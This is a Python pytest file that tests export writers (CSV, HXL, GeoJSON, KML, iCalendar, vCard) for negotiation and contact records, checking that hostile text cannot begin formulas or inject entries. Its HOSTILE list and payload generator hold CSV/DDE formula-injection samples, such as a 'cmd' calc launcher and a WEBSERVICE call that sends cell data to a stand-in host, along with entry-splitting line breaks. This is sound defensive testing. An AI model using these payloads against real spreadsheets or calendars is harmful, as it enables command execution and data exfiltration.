"""What is written for other programs is read by them, marked, and never does anything there."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import time
from collections.abc import Iterable, Iterator
from itertools import islice
from xml.etree import ElementTree

import msgspec
import pytest
import vobject  # type: ignore[import-untyped]  # the library ships no types
from defusedxml.ElementTree import fromstring  # type: ignore[import-untyped]  # the same
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from liaison.context.csv_in import read_csv
from liaison.context.csv_out import write_csv
from liaison.context.formulas import escape, unescape
from liaison.context.geojson_in import read_geojson
from liaison.context.geojson_out import write_geojson
from liaison.context.guessing import guess
from liaison.context.hxl_out import write_hxl
from liaison.context.icalendar_in import read_icalendar
from liaison.context.icalendar_out import write_icalendar
from liaison.context.jsonl_out import write_jsonl
from liaison.context.kml_out import write_kml
from liaison.context.mapping import read_rows
from liaison.context.outgoing import COLUMNS, SHARED, Outgoing
from liaison.context.rows import ContextRow
from liaison.context.vcard_in import read_vcard
from liaison.context.vcard_out import write_vcard
from liaison.domain.content import Content, example, parse_content
from liaison.domain.kinds import BODIES
from liaison.domain.places import Place
from liaison.domain.times import LATEST, Moment, Span
from tests.liaison.strategies import contents

NAMES = ("Elder Example", "Capt. Sample", "Party North", "Fictitious Bridge", "water point")
BANNER = "UN UNCLASSIFIED"
# A balloon would fetch it, a spreadsheet run it, a line-based format start another entry with it.
HOSTILE = (
    "<img src=http://fiction.invalid/x.png>", "]]><x/>", "$[name] &amp; &#x41;",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "a\nEND:VEVENT\nBEGIN:VEVENT",
    "a\u2028END:VCARD\u2029BEGIN:VCARD", "\ufffe\uffff",
    "\u202ereversed", "a;b,c\\d\\ne", '"quoted", and', "'=1", "\u200b=1", "\t=1", "ابج, דהו",
)  # fmt: skip


def outgoing(content: Content, number: int = 1, **facts: object) -> Outgoing:
    held = Outgoing(
        record=f"0190b2c4-0000-7000-8000-{number:012}",
        version=2,
        state="amended",
        author="Capt. Sample",
        at=1_088_868_720_000_000,
        content=content,
    )
    return msgspec.structs.replace(held, **facts)


KINDS = ("contact-log", "negotiation-note")
EXAMPLES = [outgoing(example(kind), number) for number, kind in enumerate(KINDS, 1)]


def hostile(text: str) -> Outgoing:
    """A record with the same text in every place that takes one."""
    base = example("contact-log")
    content = msgspec.structs.replace(
        base, title=text, area=text, case_ref=text, parties=(text,), persons=(text,), serial=text,
        place=Place(name=text, given=text, lat="4.1", lon="12.4", precision_m=10_000),
        language=text, protection_notes=text,
        statements=(msgspec.structs.replace(base.statements[0], text=text, speaker=text),),
        body=msgspec.structs.replace(base.body, purpose=text, venue=text),
    )  # fmt: skip
    return outgoing(content, author=text)


def table(chunks: Iterable[bytes]) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


FORMULA = re.compile(r"[\t\r]|\s*[=+\-@]")


def payloads() -> Iterator[str]:
    """S93: ways to begin a formula, with what may stand before, inside and after."""
    before = ["", " ", "\n", "\t", "\u200b", "\ufeff", "'", "''", " '"]
    signs = ["=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠"]
    after = [
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://fiction.invalid","x")',
        "SUM(A1:A9)",
        'WEBSERVICE("http://fiction.invalid/"&A1)',
        "IMPORTXML(1)",
        "2\n=3",
        '"";=4',
        "",
        "A1",
    ]
    made = [f"{a}{b}{c}" for a in before for b in signs for c in after]
    pick = random.Random(93)
    while True:
        yield from made
        yield "".join(pick.choices("=+-@'\t ;,\"|1Aa\n", k=8))


def test_s93_no_cell_of_any_column_can_begin_a_formula() -> None:
    """S93: 1,000 payloads x all columns; the table also comes back cell by cell (RFC 4180)."""
    tried = list(islice(payloads(), 1_000))
    assert len(set(tried)) > 800
    rows = table(write_csv(map(hostile, tried)))
    assert rows[0] == [column.name for column in COLUMNS]
    for text, row in zip(tried, rows[1:], strict=True):
        assert len(row) == len(COLUMNS)
        for cell in row:
            plain = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)
            assert plain or not FORMULA.match(cell), repr(cell)
        assert unescape(row[COLUMNS.index(title_column)]) == text
    shared = table(write_hxl(map(hostile, tried)))
    assert not [cell for row in shared for cell in row if FORMULA.match(cell) and not _number(cell)]


title_column = next(column for column in COLUMNS if column.name == "title")


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell))


@given(st.text(st.sampled_from("=+-@'\t\r\n 1.a＝\u200b")) | st.text())
def test_s93_an_escaped_cell_comes_back(cell: str) -> None:
    """S93: escaping loses nothing, whatever stands in the cell."""
    escaped = escape(cell)
    assert unescape(escaped) == cell or _number(cell)
    assert not FORMULA.match(escaped) or _number(escaped)
    for number in ("-4.36", "12", "-0.5"):
        assert escape(number) == number


@settings(max_examples=25)
@given(st.lists(contents(), max_size=3))
def test_tables_hold_every_record_in_a_row(made: list[Content]) -> None:
    items = [outgoing(content, number) for number, content in enumerate(made, 1)]
    rows = table(write_csv(items))
    assert len(rows) == len(items) + 1
    for item, row in zip(items, rows[1:], strict=True):
        assert [unescape(cell) for cell in row] == [column.read(item) for column in COLUMNS]
        assert re.match(r"NOT MARKED|UN |NATO |COSMIC |TLP:", row[0])


def test_s93_a_comma_table_cut_at_semicolons_begins_no_formula_either() -> None:
    """S93: as a spreadsheet does whose country parts cells by semicolon; quotes are letters."""
    texts = [f"x{sign}{text}" for sign in (";", "\n", ';"', "; ") for text in payloads_few()]
    data = b"".join(write_csv(map(hostile, texts))).decode("utf-8-sig")
    cut = [cell for line in data.splitlines() for cell in line.split(";")]
    assert len(cut) > 600
    assert not [cell for cell in cut if FORMULA.match(cell.replace('"', ""))]


def payloads_few() -> list[str]:
    return ["=1+1", "+1", "-1", "@SUM(A1)", "'=1", "＝1", "=cmd|' /C calc'!A0"]


def test_escaping_a_million_line_ends_takes_a_moment() -> None:
    for text in ("\n" * 1_000_000, ";" * 1_000_000, "'" * 1_000_000, " " * 1_000_000):
        started = time.perf_counter()
        assert unescape(escape(text)) == text
        assert time.perf_counter() - started < 2


def test_a_table_of_ours_is_guessed_and_read_back() -> None:
    for chunks in (write_csv(EXAMPLES), write_hxl(EXAMPLES)):
        sheet = read_csv(b"".join(chunks))
        rows = list(read_rows(guess(sheet), sheet))
        for item, row in zip(EXAMPLES, rows, strict=True):
            assert isinstance(row, ContextRow), row
            assert (row.id, row.title) == (item.record, item.content.title)
            assert row.when == item.content.event
            assert row.place is not None
            assert row.place.name == "Fictitious Bridge"
            assert row.place.mgrs == "33NTE12345678"


def test_a_humanitarian_table_has_hashtags_and_names_no_person() -> None:
    data = b"".join(write_hxl([hostile("Elder Example"), *EXAMPLES]))
    rows = table([data])
    tags = rows[1]
    assert tags == [column.tag for column in SHARED]
    assert all(re.fullmatch(r"#[a-z]+(\+[a-z]+)*", tag) for tag in tags)
    assert len(set(tags)) == len(tags)
    shared = {name for name, _, _ in SHARED}
    assert not shared & {"persons", "author", "statements", "body", "protection"}
    assert b"Capt. Sample" not in b"".join(write_hxl(EXAMPLES))


@settings(max_examples=25)
@given(st.lists(contents(), max_size=3))
def test_json_lines_hold_the_whole_record(made: list[Content]) -> None:
    lines = [json.loads(line) for line in write_jsonl(map(outgoing, made))]
    assert [parse_content(json.dumps(line["content"]).encode()) for line in lines] == made
    assert all(
        line["marking"] and line["kind"] == line["content"]["body"]["kind"] for line in lines
    )


@settings(max_examples=25)
@given(st.lists(contents(), max_size=3))
def test_geojson_holds_every_record_and_no_false_digits(made: list[Content]) -> None:
    data = b"".join(write_geojson(map(outgoing, made), banner=BANNER))
    tree = json.loads(data)
    assert (tree["type"], tree["marking"]) == ("FeatureCollection", BANNER)
    assert len(tree["features"]) == len(made)
    for feature, content in zip(tree["features"], made, strict=True):
        assert feature["properties"]["marking"]
        placed = content.place is not None and content.place.lat
        assert (feature["geometry"] is not None) == bool(placed)
    sheet = read_geojson(data)
    assert len(list(sheet.rows())) == len(made)


def test_coordinates_have_the_digits_that_the_place_justifies() -> None:
    rough = Place(lat="4.1283720", lon="-12.4000000", precision_m=1_000)
    content = msgspec.structs.replace(example("contact-log"), place=rough)
    data = b"".join(write_geojson([outgoing(content)], banner=BANNER))
    assert b'"coordinates":[-12.40,4.13]' in data
    assert b"<coordinates>-12.40,4.13</coordinates>" in b"".join(
        write_kml([outgoing(content)], banner=BANNER)
    )


def kml(chunks: Iterable[bytes]) -> ElementTree.Element:
    root: ElementTree.Element = fromstring(b"".join(chunks))
    return root


@settings(max_examples=25)
@given(st.lists(contents(), max_size=3))
def test_kml_is_well_formed_whatever_stands_in_it(made: list[Content]) -> None:
    root = kml(write_kml(map(outgoing, made), banner=BANNER))
    assert root.tag == "{http://www.opengis.net/kml/2.2}kml"
    assert len(root.findall(".//{*}Placemark")) == len(made)
    assert root.findtext(".//{*}Document/{*}name") == BANNER
    for when in root.findall(".//{*}when"):
        assert re.fullmatch(
            r"[0-9]{4}(-[0-9]{2}){2}(T[0-9:]{8}(Z|[+-][0-9:]{5}))?", when.text or ""
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_balloon_shows_text_and_fetches_nothing(text: str) -> None:
    """The description is a web page: undone once it may hold no tag but our own line breaks."""
    root = kml(write_kml([hostile(text)], banner=text))
    description = root.findtext(".//{*}Placemark/{*}description") or ""
    assert re.findall(r"<[^>]*>", description) == ["<br>"] * description.count("<br>")
    assert "$[" not in description
    assert root.findtext(".//{*}BalloonStyle/{*}text") == "$[description]"


def test_a_calendar_tells_nothing_but_the_time_unless_asked() -> None:
    data = b"".join(write_icalendar(EXAMPLES, banner=BANNER))
    for name in NAMES:
        assert name.encode() not in data
    events = Calendar.from_ical(data).events
    titles = {str(event["SUMMARY"]) for event in events}
    assert titles == {
        "Contact log",
        "Contact log: due",
        "Negotiation note",
        "Negotiation note: due",
    }
    assert {str(event["CLASS"]) for event in events} == {"CONFIDENTIAL"}
    assert len({str(event["UID"]) for event in events}) == len(events)
    told = b"".join(write_icalendar(EXAMPLES, banner=BANNER, detailed=True))
    row = next(iter(read_icalendar(told)))
    assert isinstance(row, ContextRow)
    assert row.title == "Contact log: FICTION - meeting about the water point"
    assert row.place is not None
    assert row.place.name == "Fictitious Bridge (33N TE 1234 5678)"


def test_dates_of_a_calendar_come_back() -> None:
    day = Moment(at=1_088_812_800_000_000, precision="day")
    last = Moment(at=day.at + 2 * 86_400_000_000, precision="day")
    minute = Moment(at=1_088_868_720_000_000)
    edge = Moment(at=LATEST - 59_999_999)
    for span in (Span(start=day), Span(start=day, end=last), Span(start=minute), Span(start=edge),
                 Span(start=minute, end=last)):  # fmt: skip
        content = msgspec.structs.replace(Content(body=BODIES["contact-log"]()), event=span)
        data = b"".join(write_icalendar([outgoing(content)], banner=BANNER))
        (row,) = read_icalendar(data)
        assert isinstance(row, ContextRow)
        assert row.when is not None
        assert row.when.start == span.start
        assert (row.when.end or row.when.start).at == (span.end or span.start).at


@pytest.mark.parametrize("text", HOSTILE)
def test_text_cannot_begin_another_entry_in_a_calendar_or_a_card(text: str) -> None:
    """Two programs agree on how many entries there are, and on the text of each."""
    item = hostile(text)
    data = b"".join(write_icalendar([item], banner=text, detailed=True))
    assert len(Calendar.from_ical(data).events) == len(list(read_icalendar(data)))
    card = b"".join(write_vcard([item]))
    assert len(re.findall(rb"(?m)^(?:BEGIN|END):VCARD", card)) == 2
    (row,) = read_vcard(card)
    assert isinstance(row, ContextRow)
    shown = "\n".join(text.splitlines()).strip()
    assert row.title == shown
    (other,) = vobject.readComponents(card.decode())
    assert other.fn.value.strip() == shown


def test_a_card_holds_names_and_a_marking_and_no_opinion() -> None:
    data = b"".join(write_vcard([outgoing(example("person")), outgoing(example("party"))]))
    person, party = read_vcard(data)
    assert isinstance(person, ContextRow)
    assert isinstance(party, ContextRow)
    assert (person.title, person.text) == ("Elder Example", "UN UNCLASSIFIED")
    assert (party.title, dict(party.fields)["KIND"]) == ("Party North", "org")
    assert {"NICKNAME", "ORG", "TITLE", "X-LANGUAGE", "GEO"} <= set(dict(person.fields))
    for thought in (b"flood", b"respect", b"after dark", b"mornings", b"Strong", b"Hot line"):
        assert thought not in data
    other = list(read_vcard(b"".join(write_vcard(EXAMPLES))))
    titles = [row.title for row in other if isinstance(row, ContextRow)]
    assert titles == [item.content.title for item in EXAMPLES]


@pytest.mark.parametrize("kind", BODIES)
def test_every_kind_is_written_in_every_format_and_read_back(kind: str) -> None:
    item = outgoing(example(kind))
    assert len(table(write_csv([item]))) == 2
    assert len(table(write_hxl([item]))) == 3
    (line,) = write_jsonl([item])
    assert parse_content(json.dumps(json.loads(line)["content"]).encode()) == item.content
    assert len(list(read_geojson(b"".join(write_geojson([item], banner=BANNER))).rows())) == 1
    assert kml(write_kml([item], banner=BANNER)).findtext(".//{*}Placemark/{*}name")
    assert isinstance(next(read_vcard(b"".join(write_vcard([item])))), ContextRow)
    calendar = b"".join(write_icalendar([item], banner=BANNER))
    assert all(isinstance(row, ContextRow) for row in read_icalendar(calendar))
    assert not [name for name in NAMES if name.encode() in calendar]


@settings(max_examples=25)
@given(st.lists(contents(), max_size=2))
def test_cards_and_calendars_of_any_record_are_read_back(made: list[Content]) -> None:
    items = [outgoing(content, number) for number, content in enumerate(made, 1)]
    cards = b"".join(write_vcard(items))
    if items:
        assert len(list(read_vcard(cards))) == len(items)
    data = b"".join(write_icalendar(items, banner=BANNER, detailed=True))
    events = Calendar.from_ical(data).events
    if events:
        assert [type(row) for row in read_icalendar(data)] == [ContextRow] * len(events)


def test_writers_stream_one_record_at_a_time() -> None:
    """Nothing is asked for before it is needed: a hundred thousand records take no room."""

    def endless() -> Iterator[Outgoing]:
        while True:
            yield EXAMPLES[0]

    for chunks in (
        write_csv(endless()),
        write_hxl(endless()),
        write_jsonl(endless()),
        write_geojson(endless(), banner=BANNER),
        write_kml(endless(), banner=BANNER),
        write_icalendar(endless(), banner=BANNER),
        write_vcard(endless()),
    ):
        assert len(list(islice(chunks, 50))) == 50
